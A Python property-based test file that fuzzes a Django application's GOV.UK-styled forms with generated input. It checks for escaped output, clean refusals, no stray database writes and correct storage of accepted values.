def run_example(client, world: World, driver: Driver, data: st.DataObject) -> None:
    with transaction.atomic():
        # Each example starts from the same world: whatever it stored is rolled back after.
        if driver.setup is not None:
            driver.setup(world)
        form, post, perturbed = _post_data(world, driver, data)
        # Only this request's messages: an earlier example's are not this one's answer.
        client.cookies.pop("messages", None)
        before = table_counts()
        send = client.get if driver.method == "get" else client.post
        response = send(driver.url(world), post)
        after = table_counts()
        accepted = response.status_code == 302 and not any(
            m.level >= message_levels.ERROR for m in _messages(response)
        )
        stored = driver.stored(world) if driver.stored and accepted else {}
        transaction.set_rollback(True)
    assert response.status_code < 500
    html = _html(response)
    for raw in RAW_MARKUP:
        assert raw not in html, f"{raw!r} came back unescaped"
    for name, value in stored.items():
        typed = post.get(form.add_prefix(name))
        assert isinstance(typed, str) and value == typed.strip(), (
            f"{name}: accepted, but {value!r} was stored for {typed!r}"
        )

    if driver.refusal == "redirect":
        assert response.status_code == 302, response.status_code
        shown = _messages(response)
        assert shown, "no message after the redirect"
        if any(m.level >= message_levels.ERROR for m in shown):
            assert changed_tables(before, after) == {}, "refused, but something was stored"
        return

    if response.status_code == 302:
        return  # accepted
    assert response.status_code in (200, 400), response.status_code
    if "govuk-error-summary" not in html:
        assert driver.preview and response.status_code == 200, (
            "neither accepted nor refused with a GOV.UK error summary"
        )
        assert changed_tables(before, after) == {}, "a preview stored something"
        return
    assert changed_tables(before, after) == {}, "refused, but something was stored"
    if perturbed & set(driver.kept_unless):
        return  # e.g. a step not offered: its reason is shown, its inputs are not
    kept = driver.kept if driver.kept is not None else _visible_text_fields(form)
    for name in kept:
        typed = post.get(form.add_prefix(name))
        if isinstance(typed, str) and typed.strip() and "\x00" not in typed:
            assert escape(typed) in html or escape(typed.strip()) in html, (
                f"{name}: what was typed is not on the page again"
            )


@pytest.mark.parametrize("form_name", sorted(DRIVERS))
def test_form_survives_hostile_input(world, client, form_name):
    driver = DRIVERS[form_name]
    client_for(client, world, driver.role)

    @hypothesis_settings(max_examples=driver.examples, derandomize=False)
    @seed(SEED)
    @given(data=st.data())
    def check(data):
        run_example(client, world, driver, data)

    try:
        check()
    except BaseException as failure:
        replay = f"Replay this run with HOSTILE_INPUT_SEED={SEED}"
        print(replay)
        failure.add_note(replay)
        raise
